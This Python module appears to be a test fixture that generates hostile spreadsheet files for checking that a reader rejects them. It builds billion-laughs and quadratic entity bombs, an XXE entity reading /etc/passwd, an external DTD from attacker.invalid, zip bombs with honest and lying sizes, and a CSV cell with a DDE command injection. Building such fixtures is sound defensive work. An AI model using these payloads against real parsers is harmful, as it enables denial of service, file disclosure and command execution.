"""Hostile spreadsheet files, generated (never stored): each function writes one to ``path``.

Each is a small file that would cost a naive reader far more than 2 s or 200 MB, or that
should never be read at all.  ``ATTACKS`` maps a name to its builder.
"""

import re
import struct
import zipfile
import zlib

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '</Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Stakeholders" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>')
ONE_CELL = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
SHARED = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>ID</t></si></sst>'


def sheet_xml(rows=ONE_CELL, before="", after=""):
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def workbook(path, sheet=None, shared=SHARED, extra=()):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet or sheet_xml())
        z.writestr("xl/sharedStrings.xml", shared)
        for name, data in extra:
            z.writestr(name, data)
    return path


def _with_doctype(doctype, body):
    return f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{doctype}]><sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>{body}</t></si></sst>'


LAUGHS = ('<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)),
          "&lol9;")
QUADRATIC = (f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 100_000)
XXE = ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")


def billion_laughs(path):
    return workbook(path, shared=_with_doctype(*LAUGHS))


def quadratic_blowup(path):
    return workbook(path, shared=_with_doctype(*QUADRATIC))


def external_entity(path):
    return workbook(path, shared=_with_doctype(*XXE))


def external_dtd(path):
    shared = (f'<?xml version="1.0"?><!DOCTYPE sst SYSTEM "http://attacker.invalid/evil.dtd">'
              f'<sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>x</t></si></sst>')
    return workbook(path, shared=shared)


def _rewrite_sheets(base, path, change):
    """A copy of the real workbook ``base`` with every worksheet part passed through ``change``."""
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/") and info.filename.endswith(".xml"):
                data = change(data.decode("utf-8")).encode("utf-8")
            out.writestr(info.filename, data)
    return path


def _entity_in_sheets(entity):
    doctype, reference = entity

    def change(xml):
        body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
        body = re.sub(r"<t>[^<]*</t>", f"<t>{reference}</t>", body, count=1)
        return f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{doctype}]>{body}'
    return change


def exchange_workbook_variants(base):
    """The entity and nesting attacks inside a real exchange workbook, so the reader gets to them."""
    return {
        "billion laughs in a real export": lambda p: _rewrite_sheets(base, p, _entity_in_sheets(LAUGHS)),
        "quadratic blowup in a real export": lambda p: _rewrite_sheets(base, p, _entity_in_sheets(QUADRATIC)),
        "external entity in a real export": lambda p: _rewrite_sheets(base, p, _entity_in_sheets(XXE)),
        "deeply nested XML in a real export": lambda p: _rewrite_sheets(
            base, p, lambda xml: xml.replace("</worksheet>", "<x>" * 100_000 + "</x>" * 100_000 + "</worksheet>")),
    }


def _raw_zip(path, members):
    """A zip written by hand: members are (name, raw deflate bytes, crc, real size, declared size)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, real, declared in members:
        name_b = name.encode()
        offset = len(out)
        header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), declared, len(name_b), 0)
        out += header + name_b + data
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), declared,
                               len(name_b), 0, 0, 0, 0, 0, offset) + name_b
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def _deflate(text):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(text.encode()) + c.flush()
    return data, zlib.crc32(text.encode()), len(text.encode())


def _bomb_member(total_bytes, chunk_mb=1):
    """Raw deflate of a worksheet padded to ``total_bytes`` with whitespace, built without ever holding it."""
    head = sheet_xml().encode()
    opening, closing = head.split(b"<sheetData>")
    opening += b"<sheetData>"
    chunk = b" " * (chunk_mb * 1024 * 1024)
    repeats = max(1, (total_bytes - len(head)) // len(chunk))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(opening) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)  # identical for every repetition after a full flush
    last = c.compress(closing) + c.flush()
    crc = zlib.crc32(opening)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(closing, crc)
    data = first + block * repeats + last
    return data, crc, len(opening) + repeats * len(chunk) + len(closing)


def _package_members(sheet_member, sheet_declared=None):
    members = []
    for name, text in (("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS),
                       ("xl/workbook.xml", WORKBOOK), ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
                       ("xl/sharedStrings.xml", SHARED)):
        data, crc, size = _deflate(text)
        members.append((name, data, crc, size, size))
    data, crc, size = sheet_member
    members.append(("xl/worksheets/sheet1.xml", data, crc, size, size if sheet_declared is None else sheet_declared))
    return members


def zip_bomb(path):
    """About 1 MB on disk, 1 GiB of XML inside, sizes declared honestly."""
    return _raw_zip(path, _package_members(_bomb_member(1024 ** 3)))


def lying_zip(path):
    """The same bomb, but its headers claim the sheet is 2 KB."""
    return _raw_zip(path, _package_members(_bomb_member(1024 ** 3), sheet_declared=2048))


def million_cells(path):
    return workbook(path, sheet=sheet_xml(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        before='<dimension ref="A1:XFD1048576"/>'))


def million_cells_without_references(path):
    return workbook(path, sheet=sheet_xml("<row>" + "<c><v>1</v></c>" * 5000 + '</row><row r="1048576"><c><v>1</v></c></row>'))


def huge_string_table(path):
    return workbook(path, shared=SHARED.replace('uniqueCount="1"', 'uniqueCount="4000000000"'))


def deeply_nested(path):
    return workbook(path, sheet=sheet_xml(after="<x>" * 100_000 + "</x>" * 100_000))


def macros(path):
    path = path.with_suffix(".xlsm")
    return workbook(path, extra=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000)])


def csv_renamed(path):
    path.write_text("ID,Name,Email\n1,=cmd|' /C calc'!A0,a@example.org\n", encoding="utf-8")
    return path


def binary_renamed(path):
    import random

    path.write_bytes(bytes(random.Random(7).randrange(256) for _ in range(50_000)))
    return path


ATTACKS = {
    "billion laughs": billion_laughs,
    "quadratic blowup": quadratic_blowup,
    "external entity (XXE)": external_entity,
    "external DTD": external_dtd,
    "zip bomb (1 MB -> 1 GiB)": zip_bomb,
    "zip with lying sizes": lying_zip,
    "a million rows by 16384 columns": million_cells,
    "cells without references spanning a million rows": million_cells_without_references,
    "shared-string table of 4 billion": huge_string_table,
    "deeply nested XML": deeply_nested,
    ".xlsm with macros": macros,
    "CSV renamed to .xlsx": csv_renamed,
    "binary renamed to .xlsx": binary_renamed,
}
